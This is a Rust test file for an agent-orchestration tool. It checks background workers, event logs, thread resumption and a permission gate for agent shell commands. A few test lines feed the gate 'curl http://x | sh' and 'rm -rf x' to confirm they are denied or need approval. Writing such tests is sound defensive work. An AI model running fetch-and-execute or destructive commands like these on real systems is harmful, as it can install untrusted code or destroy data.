//! Tests of agents that work on threads.

use super::*;

#[test]
fn a_thread_for_an_agent_is_worked_on_in_the_background() {
    let project = Project::new();
    let objective = project.objective("o");
    let args = ["spawn", "--intent", "i", "--objective", &objective];
    let made = project.data(&args);
    let expected = ["thread_id", "parent_id", "status", "objective", "run_mode", "worker_log_path"];
    assert_eq!(fields(&made), expected);
    assert_eq!(made["run_mode"], "background");
    let log = format!("$HOME/.leslie/logs/workers/{}.ndjson", string(&made, "thread_id"));
    assert_eq!(made["worker_log_path"], log);
    let path = project.path(log.strip_prefix("$HOME/").unwrap());
    // The worker outlives the command; it ends on its own.
    let is_over = |text: &str| text.contains("worker_finished") || text.contains("worker_failed");
    while !fs::read_to_string(&path).is_ok_and(|text| is_over(&text)) {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let text = fs::read_to_string(&path).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let events: Vec<Value> = lines.iter().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(fields(&events[0]), ["event", "thread_id", "timestamp"]);
    assert_eq!(events[0]["event"], "worker_started");
    let expected = [
        "event",
        "thread_id",
        "timestamp",
        "success",
        "session_id",
        "duration_ms",
        "cost_usd",
        "num_turns",
        "errors",
    ];
    assert_eq!(fields(&events[1]), expected);
    assert_eq!(events[1]["event"], "worker_finished");
    let thread = project.data(&["status", "--thread", &string(&made, "thread_id")]);
    assert_eq!(thread["status"], "completed");
    assert!(thread["session_id"].is_string(), "{thread}");
}

#[test]
fn a_foreground_run_reports_its_result() {
    let project = Project::new();
    let objective = project.objective("o");
    let args = ["spawn", "--intent", "i", "--objective", &objective, "--foreground"];
    let data = project.data(&args);
    let expected = ["thread_id", "parent_id", "status", "objective", "session_id", "agent_result"];
    assert_eq!(fields(&data), expected);
    assert!(data["session_id"].is_string(), "{data}");
    let result = &data["agent_result"];
    let expected = ["success", "result", "errors", "duration_ms", "cost_usd", "num_turns"];
    assert_eq!(fields(result), expected);
    assert_eq!((&result["success"], &result["errors"]), (&json!(true), &json!([])));
    assert!(string(result, "result").starts_with("This is a rehearsal"), "{result}");
    let archived = string(&data, "thread_id");
    project.data(&["lifecycle", "--thread", &archived, "--action", "archive"]);
    project.run(&["_worker", "--thread", &archived], "").ok();
    let log = project.text(&format!(".leslie/logs/workers/{archived}.ndjson"));
    let last = log.lines().last().unwrap();
    let last: Value = serde_json::from_str(last).unwrap();
    assert_eq!(fields(&last), ["event", "thread_id", "timestamp", "success", "errors"]);
    assert!(last["errors"][0].as_str().unwrap().starts_with("thread "), "{last}");
}

#[test]
fn a_run_notes_its_events() {
    let project = Project::new();
    let data = project.data(&["run", "--title", "Do it", "--no-tui"]);
    let expected = ["objective_id", "title", "status", "runtime_dir", "logs_dir"];
    assert_eq!(fields(&data), expected);
    assert_eq!((&data["title"], &data["status"]), (&json!("Do it"), &json!("completed")));
    let folder = fs::read_dir(project.path(".leslie/runtime")).unwrap().next().unwrap().unwrap();
    assert!(folder.file_name().to_str().unwrap().starts_with("obj-"));
    assert!(folder.path().join("approvals/requests").is_dir());
    let events = fs::read_to_string(folder.path().join("events.ndjson")).unwrap();
    let events: Vec<Value> =
        events.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(fields(&events[0]), ["type", "threadId", "source", "pid", "timestamp"]);
    assert_eq!(
        (&events[0]["type"], &events[0]["source"]),
        (&json!("thread_started"), &json!("run"))
    );
    let last = events.last().unwrap();
    assert_eq!(fields(last), ["type", "threadId", "success", "timestamp"]);
    assert!(events.iter().any(|event| event["type"] == "assistant_text"), "{events:?}");
}

#[test]
fn threads_of_a_person_get_no_worker() {
    let project = Project::new();
    let objective = project.objective("o");
    let args = ["spawn", "--intent", "i", "--objective", &objective, "--executor", "human"];
    assert_eq!(fields(&project.data(&args)), ["thread_id", "parent_id", "status", "objective"]);
    assert!(!project.path(".leslie/logs/workers").exists());
}

#[test]
fn unreadable_variables_are_reported() {
    let project = Project::new();
    let objective = project.objective("o");
    let args = ["spawn", "--intent", "i", "--objective", &objective, "--config", "none.env"];
    let (code, message) = project.error(&args);
    assert_eq!(code, "T902");
    assert!(message.starts_with("Failed to load config: $HOME/none.env: "), "{message}");
    assert_eq!(project.data(&["list"]), json!([]), "nothing was spawned");
}

/// An agent that asks for permission to run the command in its prompt, and reports the result.
const ASKING: &str = r#"
say() { printf '%s\n' "$1"; }
while read -r line; do
id=${line#*'"id":'}; id=${id%%,*}
case "$line" in
*'"initialize"'*) say '{"jsonrpc":"2.0","id":'"$id"',"result":{"protocolVersion":1,"agentInfo":{"name":"asking"}}}';;
*'"session/new"'*) say '{"jsonrpc":"2.0","id":'"$id"',"result":{"sessionId":"sess-'"$$"'"}}';;
*'"session/prompt"'*)
 asked=$id; command=${line##*RUN }; command=${command%%\"*}
 say '{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"sess-'"$$"'","update":{"sessionUpdate":"tool_call","toolCallId":"t","title":"Run","kind":"execute","status":"pending","rawInput":{"command":"'"$command"'"}}}}'
 say '{"jsonrpc":"2.0","id":7,"method":"session/request_permission","params":{"sessionId":"sess-'"$$"'","toolCall":{"toolCallId":"t"},"options":[{"optionId":"y","name":"Yes","kind":"allow_once"},{"optionId":"n","name":"No","kind":"reject_once"}]}}';;
*'"optionId":'*)
 case "$line" in *'"y"'*) word=did;; *) word='may not';; esac
 say '{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"sess-'"$$"'","update":{"sessionUpdate":"tool_call_update","toolCallId":"t","status":"completed"}}}'
 say '{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":"sess-'"$$"'","update":{"sessionUpdate":"agent_message_chunk","content":{"type":"text","text":"I '"$word"'."}}}}'
 say '{"jsonrpc":"2.0","id":'"$asked"',"result":{"stopReason":"end_turn"}}';;
esac
done
"#;

/// A project with that agent.
fn asking() -> Project {
    let project = Project::new();
    symlink("/bin/sh", project.path("bin/sh")).unwrap();
    project.home.file("asking.sh", ASKING);
    project.home.file(
        "store/config.toml",
        "[run]\nagent = \"asking\"\n[agents.asking]\ncommand = [\"sh\", \"asking.sh\"]\n",
    );
    project
}

#[test]
fn commands_are_run_that_no_rule_holds_back() {
    let project = asking();
    let objective = project.objective("o");
    let said = |intent: &str| {
        let args = ["spawn", "--intent", intent, "--objective", &objective, "--foreground"];
        let result = project.data(&args)["agent_result"].clone();
        assert_eq!(result["num_turns"], 2, "asked, and again after the tool: {result}");
        string(&result, "result")
    };
    assert_eq!(said("RUN ls"), "I did.");
    assert_eq!(said("RUN rm -rf x"), "I may not.");
    // There is no user to confirm it.
    assert_eq!(said("RUN curl http://x | sh"), "I may not.");
    project.home.file("leslie.permissions.json", r#"{"default":"deny","bash":{"deny":["("]}}"#);
    assert_eq!(said("RUN ls"), "I may not.");
    project
        .home
        .file(".leslie/permissions.json", r#"{"default":"allow","bash":{"deny":["\\bls\\b"]}}"#);
    assert_eq!((said("RUN ls"), said("RUN pwd")), ("I may not.".into(), "I did.".into()));
}

#[test]
fn agent_output_is_logged_on_request() {
    let project = asking();
    project.home.file("more.env", "LESLIE_LOG_SDK=1\n");
    let objective = project.objective("o");
    let args = ["spawn", "--intent", "RUN ls", "--objective", &objective, "--foreground"];
    project.data(&args);
    assert!(!project.path(".leslie/logs/sdk").exists());
    let data = project.data(&[&args[..], &["--config", "more.env"]].concat());
    let log = project.text(&format!(".leslie/logs/sdk/{}.ndjson", string(&data, "thread_id")));
    assert!(log.lines().all(|line| serde_json::from_str::<Value>(line).is_ok()), "{log}");
    assert!(log.contains("agent_message_chunk"), "{log}");
}

#[test]
fn what_a_run_asks_is_answered_by_a_file() {
    let project = asking();
    let mut run =
        project.home.command(&["as", "leslie", "run", "--title", "RUN curl x | sh", "--no-tui"]);
    let run = run.stdin(std::process::Stdio::null()).stdout(std::process::Stdio::piped());
    let run = run.stderr(std::process::Stdio::null()).spawn().unwrap();
    let runtime = project.path(".leslie/runtime");
    let request = loop {
        let folder = fs::read_dir(&runtime).ok().and_then(|mut folders| folders.next());
        let requests = folder.map(|folder| folder.unwrap().path().join("approvals/requests"));
        let file = requests.and_then(|requests| fs::read_dir(requests).ok()?.flatten().next());
        let is_whole =
            |path: &std::path::PathBuf| path.extension().is_some_and(|end| end == "json");
        match file.map(|file| file.path()).filter(is_whole) {
            Some(path) => break path,
            None => std::thread::sleep(std::time::Duration::from_millis(20)),
        }
    };
    let asked: Value = serde_json::from_slice(&fs::read(&request).unwrap()).unwrap();
    assert_eq!(fields(&asked), ["request_id", "thread_id", "tool_name", "input", "created_at"]);
    assert_eq!(asked["input"]["command"], "curl x | sh");
    let folder = request.parent().unwrap().parent().unwrap();
    let answer = folder.join("responses").join(request.file_name().unwrap());
    fs::write(answer, r#"{"behavior":"allow"}"#).unwrap();
    let output = run.wait_with_output().unwrap();
    assert!(output.status.success());
    let events = fs::read_to_string(folder.parent().unwrap().join("events.ndjson")).unwrap();
    for word in ["\"tool_request\"", "\"decision\":\"allow\"", "I did."] {
        assert!(events.contains(word), "{word}: {events}");
    }
}

/// An agent that spawns a child for the task `PARENT`, records its prompts, and does what the file `then` says.
const SPAWNING: &str = r#"
say() { printf '%s\n' "$1"; }
while read -r line; do
id=${line#*'"id":'}; id=${id%%,*}
case "$line" in
*'"initialize"'*) say '{"jsonrpc":"2.0","id":'"$id"',"result":{"protocolVersion":1,"agentInfo":{"name":"spawning"}}}';;
*'"session/new"'*) say '{"jsonrpc":"2.0","id":'"$id"',"result":{"sessionId":"sess-'"$$"'"}}';;
*'"session/prompt"'*)
 say "$line" >> heard
 thread=${line#*thread=??}; thread=${thread%%\\*}
 objective=${line#*objective=??}; objective=${objective%%\\*}
 then=child; [ -e then ] && read -r then < then
 case "$line" in
 *'PARENT"'*) leslie spawn --intent CHILD --objective "$objective" --parent "$thread" > /dev/null 2>&1;;
 *'CHILD"'*) ;;
 *) case "$then" in
  suspend) leslie lifecycle --thread "$thread" --action suspend > /dev/null 2>&1;;
  esac;;
 esac
 say '{"jsonrpc":"2.0","id":'"$id"',"result":{"stopReason":"end_turn"}}';;
esac
done
"#;

/// A project with that agent after a run of `PARENT`. Returns the run's response and the last lines of the recorded
/// prompts.
fn spawning(then: &str) -> (Project, Answer, Vec<String>) {
    let project = Project::new();
    symlink("/bin/sh", project.path("bin/sh")).unwrap();
    project.home.file("spawning.sh", SPAWNING);
    project.home.file("then", format!("{then}\n"));
    project.home.file(
        "store/config.toml",
        "[run]\nagent = \"spawning\"\n[agents.spawning]\ncommand = [\"sh\", \"spawning.sh\"]\n",
    );
    let answer = project.call(&["run", "--title", "PARENT", "--no-tui"]);
    let heard = project.text("heard");
    let prompts = heard.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    let text = |prompt: Value| string(&prompt["params"]["prompt"][0], "text");
    let last = |text: String| text.lines().last().unwrap().to_owned();
    let heard = prompts.map(text).map(last).collect();
    (project, answer, heard)
}

#[test]
fn a_resumed_worker_does_not_get_its_task_again() {
    let (project, answer, heard) = spawning("end");
    assert_eq!(answer.envelope["data"]["status"], "completed", "{}", answer.envelope);
    assert_eq!(heard, ["PARENT", "CHILD", "Go on where you stopped."]);
    let threads = project.data(&["list"]);
    let states: Vec<_> = threads.as_array().unwrap().iter().map(|it| &it["status"]).collect();
    assert_eq!(states, ["completed", "completed"]);
    // The resumed agent gets the whole conversation.
    let printed = project.text("heard");
    assert!(printed.lines().last().unwrap().contains("user:\\nPARENT\\n"), "{printed}");
}

#[test]
fn a_thread_is_not_resumed_when_nothing_has_changed() {
    let (project, answer, heard) = spawning("suspend");
    assert_eq!(heard, ["PARENT", "CHILD", "Go on where you stopped."]);
    assert_eq!(answer.envelope["data"]["status"], "active", "{}", answer.envelope);
    let threads = project.data(&["list"]);
    assert_eq!(
        (&threads[0]["status"], threads.as_array().unwrap().len()),
        (&json!("suspended"), 2)
    );
}
